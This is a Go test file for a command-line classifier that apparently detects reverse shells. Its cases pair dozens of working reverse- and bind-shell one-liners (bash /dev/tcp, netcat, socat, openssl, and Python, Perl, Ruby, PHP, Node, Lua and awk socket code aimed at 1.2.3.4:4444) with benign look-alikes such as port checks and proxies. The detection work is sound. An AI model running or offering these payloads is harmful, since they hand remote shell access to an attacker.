package cmdline

import "testing"

func TestReverseShell(t *testing.T) {
	rs := []Class{ReverseShell}
	runCases(t, []tc{
		// /dev/tcp.
		{name: "bash -i dev tcp", script: "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", want: rs, detail: "/dev/tcp/1.2.3.4/4444"},
		{name: "argv bash -c", argv: []string{"/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}, want: rs},
		{name: "sh udp", script: "sh -i >& /dev/udp/1.2.3.4/53 0>&1", want: rs},
		{name: "separate redirections", script: "/bin/bash -l > /dev/tcp/1.2.3.4/4444 0<&1 2>&1", want: rs},
		{name: "exec fd 196", script: "0<&196;exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196", want: rs},
		{name: "read loop", script: "exec 5<>/dev/tcp/1.2.3.4/4444; cat <&5 | while read line; do $line 2>&5 >&5; done", want: rs},
		{name: "read -u loop", script: "exec 5<>/dev/tcp/1.2.3.4/4444; while read -u 5 c; do eval \"$c\" >&5 2>&5; done", want: rs},
		{name: "compound redirected", script: "bash -c '{ bash -i; } >& /dev/tcp/1.2.3.4/4444 0>&1'", want: rs},
		{name: "exec builtin", script: "/bin/bash -c 'exec bash -i &>/dev/tcp/1.2.3.4/4444 <&1'", want: rs},
		{name: "background subshell", script: "(bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 &)", want: rs},
		{name: "ncat ssl", script: "ncat --ssl 1.2.3.4 4444 -e /bin/bash", want: rs},
		{name: "php proc_open", script: `php -r '$s=fsockopen("1.2.3.4",4444);$proc=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);'`, want: rs},
		{name: "ruby popen loop", script: `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("1.2.3.4","4444");loop{c.gets.chomp!;IO.popen($_,"r"){|io|c.print io.read}}'`, want: rs},
		{name: "quoted dev tcp", script: `bash -c 'bash -i >& "/dev/tcp/$H/4444" 0>&1'`, want: rs},
		{name: "decoded in python os.system", script: `python3 -c "import os; os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')"`, want: rs},

		// netcat family.
		{name: "nc -e", script: "nc -e /bin/sh 1.2.3.4 4444", want: rs, detail: "nc connects /bin/sh to 1.2.3.4 4444"},
		{name: "nc -e after host", script: "nc 1.2.3.4 4444 -e /bin/bash", want: rs},
		{name: "ncat -e", script: "ncat 1.2.3.4 4444 -e /bin/bash", want: rs},
		{name: "ncat --exec", script: "ncat --exec /bin/sh 1.2.3.4 4444", want: rs},
		{name: "ncat --sh-exec", script: `ncat --sh-exec "bash -i" 1.2.3.4 4444`, want: rs},
		{name: "nc -c", script: "nc -c sh 1.2.3.4 4444", want: rs},
		{name: "netcat by path", script: "/usr/bin/netcat -e /bin/sh 1.2.3.4 4444", want: rs},
		{name: "busybox nc", script: "busybox nc 1.2.3.4 4444 -e sh", want: rs},
		{name: "bind shell", script: "nc -lvnp 4444 -e /bin/bash", want: rs, detail: "bind shell"},
		{name: "nc -e python", script: "nc -e /usr/bin/python3 1.2.3.4 4444", want: rs},
		{name: "mkfifo nc", script: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 1234 >/tmp/f", want: rs},
		{name: "mknod telnet", script: "mknod /tmp/p p && telnet 1.2.3.4 4444 0</tmp/p | /bin/bash 1>/tmp/p", want: rs},
		{name: "nc into fifo", script: "mkfifo /tmp/g; nc 1.2.3.4 4444 < /tmp/g | /bin/sh > /tmp/g 2>&1", want: rs},
		{name: "double telnet", script: "telnet 1.2.3.4 4444 | /bin/sh | telnet 1.2.3.4 4445", want: rs},
		{name: "openssl s_client", script: "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s", want: rs},

		// socat.
		{name: "socat exec pty", script: `socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:1.2.3.4:4444`, want: rs},
		{name: "socat tcp exec", script: "socat TCP:1.2.3.4:4444 EXEC:sh", want: rs},
		{name: "socat system", script: "socat TCP4:1.2.3.4:4444 SYSTEM:'/bin/sh -i'", want: rs},
		{name: "socat bind", script: "socat tcp-listen:4444,reuseaddr,fork exec:/bin/bash", want: rs},

		// Interpreter one-liners.
		{name: "python dup2 pty", script: `python -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'`, want: rs},
		{name: "python subprocess", script: `python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("1.2.3.4",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'`, want: rs},
		{name: "perl socket", script: `perl -e 'use Socket;$i="1.2.3.4";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, want: rs},
		{name: "perl IO::Socket", script: `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"1.2.3.4:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, want: rs},
		{name: "ruby TCPSocket", script: `ruby -rsocket -e 'f=TCPSocket.open("1.2.3.4",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, want: rs},
		{name: "php fsockopen", script: `php -r '$sock=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, want: rs},
		{name: "node net child_process", script: `node -e "var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'1.2.3.4',function(){k.pipe(s.stdin);s.stdout.pipe(k);})"`, want: rs},
		{name: "node exec of nc", script: `node -e "require('child_process').exec('nc -e /bin/sh 1.2.3.4 4444')"`, want: rs},
		{name: "lua socket", script: `lua -e "local s=require('socket');local t=s.tcp();t:connect('1.2.3.4','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`, want: rs},
		{name: "gawk inet", script: `awk 'BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`, want: rs},

		// Benign look-alikes.
		{name: "port check", script: "nc -z db 5432"},
		{name: "port check verbose", script: "nc -zv -w 2 db 5432 && echo up"},
		{name: "readiness echo", script: "until echo > /dev/tcp/db/5432; do sleep 1; done"},
		{name: "probe in bash -c", script: "timeout 1 bash -c '</dev/tcp/db/5432'"},
		{name: "read daytime", script: "bash -c 'cat < /dev/tcp/time.nist.gov/13'"},
		{name: "python connect check", script: `python -c "import socket; socket.create_connection(('db', 5432), 2)"`},
		{name: "python tty upgrade without socket", script: `python -c 'import pty; pty.spawn("/bin/bash")'`},
		{name: "socat proxy", script: "socat TCP-LISTEN:8080,fork TCP:backend:80"},
		{name: "socat probe", script: "echo PING | socat - TCP:redis:6379"},
		{name: "ncat handler", script: "ncat -l 8080 --keep-open --exec /app/handler"},
		{name: "nc serve file", script: "nc -l -p 8080 < /www/index.html"},
		{name: "interactive shell", script: "sh -i"},
		{name: "node tcp check", script: `node -e "require('net').connect(5432,'db').on('connect',()=>process.exit(0))"`},
		{name: "log to nc", script: "echo hello | nc logserver 514"},
		{name: "script output to nc", script: "sh /scripts/report.sh | nc logserver 514"},
		{name: "piped script output to nc", script: "cat /scripts/report.sh | sh | nc logserver.example.com 514"},
		{name: "fifo without network", script: "mkfifo /tmp/q; cat /tmp/q | sh > /tmp/out"},
		{name: "websocket client", script: `python3 -c "import websocket, subprocess; subprocess.run(['ls'])"`},
	})
}
